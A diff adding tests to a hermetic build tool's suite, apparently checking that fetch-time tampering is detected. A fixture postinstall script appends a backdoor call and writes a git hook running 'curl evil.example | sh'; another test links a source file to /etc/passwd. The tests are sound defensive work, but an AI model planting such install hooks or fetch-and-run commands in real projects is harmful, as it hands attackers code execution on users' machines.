@@ -4,7 +4,7 @@
  * reproducibility caught, hangs stopped, a missing sandbox explained.
  */
 import { execFileSync, spawnSync } from 'node:child_process';
-import { existsSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
+import { existsSync, mkdtempSync, readdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
 import { createServer, type Server } from 'node:http';
 import { createServer as createNetServer } from 'node:net';
 import type { AddressInfo } from 'node:net';
@@ -365,6 +365,79 @@ describeBwrap('hermetic build: fetch phase', () => {
     expect(r.passed).toBe(false);
     expect(r.failure).toMatchObject({ phase: 'fetch', exitCode: 7 });
     expect(r.findings.map((f) => f.rule)).toEqual(expect.arrayContaining(['build/fetch-failed', 'build/fetch-offline']));
+  });
+});
+
+describeBwrap('hermetic build: what the fetch and the build change is caught', () => {
+  // A project whose npm install script backdoors a tracked file and drops a git hook, as a
+  // compromised dependency's postinstall would; npm ci runs it in the fetch phase.
+  const tamper = [
+    "const fs = require('fs');",
+    "fs.appendFileSync('input.txt', 'backdoor()\\n');",
+    "fs.writeFileSync('.git/hooks/post-checkout', '#!/bin/sh\\ncurl evil.example | sh\\n', { mode: 0o755 });",
+  ].join(' ');
+  const project = {
+    'package.json': JSON.stringify({ name: 'fixture', version: '1.0.0', scripts: { postinstall: `node -e "${tamper}"` } }),
+    'package-lock.json': JSON.stringify({
+      name: 'fixture',
+      version: '1.0.0',
+      lockfileVersion: 3,
+      requires: true,
+      packages: { '': { name: 'fixture', version: '1.0.0' } },
+    }),
+  };
+
+  it('a fetch-time script that rewrites a tracked file and drops a .git/hooks file: both blocking, named with the phase, in the provenance', async () => {
+    const repo = makeRepo(project);
+    const r = await build(options(repo.dir, 'mkdir -p dist && cp input.txt dist/', { fetchCommand: 'npm ci', outputs: ['dist/**'] }));
+    expect(r.passed).toBe(false);
+    const modified = r.findings.find((f) => f.rule === 'build/source-modified');
+    expect(modified?.message).toMatch(/the fetch phase changed the source of commit [0-9a-f]{12}: changed input\.txt/);
+    const hook = r.findings.find((f) => f.rule === 'build/git-modified');
+    expect(hook?.message).toBe('the fetch phase wrote under .git/: .git/hooks/post-checkout');
+    expect(r.integrity?.phases.find((p) => p.phase === 'fetch')).toMatchObject({
+      changed: ['input.txt'],
+      git: ['.git/hooks/post-checkout'],
+    });
+    // The checkout itself was never written.
+    expect(readFileSync(path.join(repo.dir, 'input.txt'), 'utf8')).toBe('hello from the source\n');
+    expect(existsSync(path.join(repo.dir, '.git', 'hooks', 'post-checkout'))).toBe(false);
+    const integrity = JSON.parse(
+      Buffer.from(
+        readStatement(r.provenancePath as string).predicate.runDetails.byproducts?.find((b) => b.name === 'integrity')?.content ?? '',
+        'base64',
+      ).toString(),
+    ) as { unchanged: boolean; git: string[] };
+    expect(integrity).toMatchObject({ unchanged: false, git: ['.git/hooks/post-checkout'] });
+  });
+
+  it('a deleted tracked file and a tracked file replaced by a symlink are caught; untracked outputs are fine', async () => {
+    const repo = makeRepo({ 'src/a.js': 'a\n', 'src/b.js': 'b\n' });
+    const r = await build(
+      options(repo.dir, 'rm src/a.js && rm src/b.js && ln -s /etc/passwd src/b.js && mkdir -p dist && echo ok > dist/x', {
+        outputs: ['dist/**'],
+      }),
+    );
+    expect(r.integrity?.removed).toEqual(['src/a.js']);
+    expect(r.integrity?.changed).toEqual(['src/b.js']);
+    expect(r.subjects.map((s) => s.name)).toEqual(['dist/x']);
+  });
+
+  it('a committed .secure-factory symlink is refused before anything runs or is written', async () => {
+    const repo = makeRepo();
+    const target = mkdtempSync(path.join(tmpdir(), 'sf-link-target-'));
+    symlinkSync(target, path.join(repo.dir, '.secure-factory'));
+    repo.git('add', '.secure-factory');
+    repo.git('commit', '-q', '-m', 'link');
+    const marker = path.join(target, 'ran');
+    await expect(build(options(repo.dir, `touch ${marker}`))).rejects.toThrow(
+      /\.secure-factory is a symbolic link .*will not write through it/,
+    );
+    const outside = mkdtempSync(path.join(tmpdir(), 'sf-out-'));
+    await expect(build(options(repo.dir, `touch ${marker}`, { outputDir: outside }))).rejects.toThrow(
+      /the commit holds \.secure-factory \(a symbolic link\)/,
+    );
+    expect(readdirSync(target)).toEqual([]);
   });
 });
 
